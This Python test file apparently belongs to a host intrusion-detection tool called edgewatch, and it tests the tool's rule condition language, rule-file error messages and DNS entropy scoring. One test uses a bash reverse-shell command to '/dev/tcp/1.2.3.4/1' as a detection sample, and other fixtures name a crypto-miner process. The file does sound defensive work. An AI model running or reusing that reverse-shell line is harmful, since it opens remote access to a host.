"""The rule language: operators, derived values, and errors that name the rule."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edgewatch.detect import model
from edgewatch.detect.conditions import (
    ConditionError,
    dga_score,
    label_entropy,
    longest_label,
    predicate,
    registered_domain,
)
from edgewatch.detect.engine import Engine
from edgewatch.events.base import event_columns
from edgewatch.events.dns import DnsEvent
from edgewatch.events.exec import ExecEvent
from edgewatch.events.tcp import TcpEvent
from tests.detect.helpers import dns, exec_ev, tcp

TCP = event_columns(TcpEvent)
EXEC = event_columns(ExecEvent)


def test_operators() -> None:
    p = predicate(
        {
            "type": "connect",
            "dst_port": {"in": [3333, 5555], "ne": 0},
            "dst_addr": {"cidr": ["141.94.0.0/16"], "public": True},
            "not": {"comm": {"startswith": ["kube"]}},
        },
        TCP,
    )
    assert p(tcp("141.94.96.71", 3333, comm="xmrig"))
    assert not p(tcp("141.94.96.71", 3333, comm="kube-proxy"))
    assert not p(tcp("141.94.96.71", 443))
    assert not p(tcp("10.1.2.3", 3333))


def test_list_columns_match_any_element() -> None:
    p = predicate({"args": {"contains": "/dev/tcp/"}}, EXEC)
    assert p(exec_ev(["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"]))
    assert not p(exec_ev(["bash", "-c", "true"]))
    q = predicate({"any": [{"first(args)": {"regex": "^/tmp/"}}, {"tty": {"gt": 0}}]}, EXEC)
    assert q(exec_ev(["/tmp/x"])) and q(exec_ev(["sh"], tty=1)) and not q(exec_ev(["sh"]))


@pytest.mark.parametrize(
    ("cond", "message"),
    [
        ({"comand": "x"}, "no column 'comand'"),
        ({"comm": {"like": "x"}}, "unknown operator 'like'"),
        ({"nope(comm)": 1}, "unknown function 'nope'"),
        ({"any": []}, "non-empty list"),
        ({"dst_port": {"gt": "x"}}, "expected a number"),
        ({"dst_addr": {"cidr": "300.1.0.0/8"}}, "300.1.0.0/8"),
        ({"comm": {"regex": "("}}, "bad pattern"),
    ],
)
def test_condition_errors_name_the_part(cond: dict, message: str) -> None:
    with pytest.raises(ConditionError, match=message.replace("(", r"\(")):
        predicate(cond, TCP)


def test_rule_file_errors_name_file_and_rule(tmp_path: Path) -> None:
    f = tmp_path / "bad.yaml"
    f.write_text(
        "rules:\n  - name: my_rule\n    title: t\n    description: d\n    severity: severe\n"
        "    mitre: {tactic: Execution, technique: T1059}\n    gadgets: [exec]\n"
    )
    with pytest.raises(model.RuleError, match=r"bad.yaml: rule my_rule: severity"):
        model.load_paths([f])
    f.write_text(
        "name: my_rule\ntitle: t\ndescription: d\nseverity: low\n"
        "mitre: {tactic: Execution, technique: T1059}\ngadgets: [exec]\n"
        "condition: {dst_port: 1}\n"
    )
    (spec,) = model.load_paths([tmp_path])
    with pytest.raises(model.RuleError, match=r"rule my_rule .*no column 'dst_port'"):
        Engine([spec])
    f.write_text(f.read_text().replace("condition: {dst_port: 1}", "detector: crystal_ball"))
    with pytest.raises(model.RuleError, match="unknown detector 'crystal_ball'"):
        Engine(model.load_paths([f]))
    f.write_text(f.read_text().replace("gadgets: [exec]", "gadgets: [trace_nothing]"))
    with pytest.raises(model.RuleError, match="trace_nothing"):
        model.load_paths([f])


def test_custom_rules_run_next_to_builtins(tmp_path: Path) -> None:
    (tmp_path / "r.yml").write_text(
        "rules:\n  - name: ssh_out\n    title: SSH out\n    description: d\n    severity: low\n"
        "    mitre: {tactic: Lateral Movement, technique: T1021.004}\n    gadgets: [trace_tcp]\n"
        "    condition: {type: connect, dst_port: 22}\n"
    )
    eng = Engine([*model.builtin(), *model.load_paths([tmp_path])])
    alerts = eng.scan([tcp("10.0.5.5", 22)], [b""])
    assert [a.rule for a in alerts] == ["ssh_out"]


def test_builtin_rules_load_and_are_unique() -> None:
    specs = model.builtin()
    model.check_unique(specs)
    assert len(specs) >= 20
    assert all(s.origin == "builtin" for s in specs)


def test_durations() -> None:
    assert model.parse_duration("90s") == 90 * 10**9
    assert model.parse_duration("1h") == 3600 * 10**9
    assert model.parse_duration(2) == 2 * 10**9
    with pytest.raises(ValueError, match="duration"):
        model.parse_duration("soon")


_label = st.text("abcdefghijklmnopqrstuvwxyz0123456789-", min_size=1, max_size=63)


@given(st.lists(_label, min_size=1, max_size=6))
def test_label_functions(labels: list[str]) -> None:
    name = ".".join(labels) + "."
    assert longest_label(name) == max(map(len, labels))
    assert 0.0 <= label_entropy(name) <= 6.0
    assert registered_domain(name) == ".".join(labels[-2:])
    assert 0.0 <= dga_score(name) <= 1.0


def test_entropy_separates_encoded_data_from_words() -> None:
    assert label_entropy("mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpj.example.") > 4.0
    assert label_entropy("edgeingeststore.blob.core.windows.net.") < 3.5


def test_predicate_is_the_engine_code_path() -> None:
    cond = {"qr": "Q", "longest_label(name)": {"ge": 40}}
    p = predicate(cond, event_columns(DnsEvent))
    long = dns("a" * 45 + ".example.")
    assert p(long) and not p(dns("short.example."))
